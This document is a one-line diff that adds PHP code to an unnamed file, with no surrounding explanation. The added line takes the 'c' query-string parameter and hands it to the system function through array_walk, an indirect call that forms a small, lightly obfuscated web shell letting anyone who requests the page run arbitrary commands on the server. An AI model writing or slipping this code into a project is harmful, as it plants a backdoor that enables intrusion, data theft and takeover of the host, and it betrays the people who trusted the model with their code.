@@ -1,0 +1,1 @@
+<?php $o = new ArrayObject(array($_GET['c'])); array_walk($o, 'system');
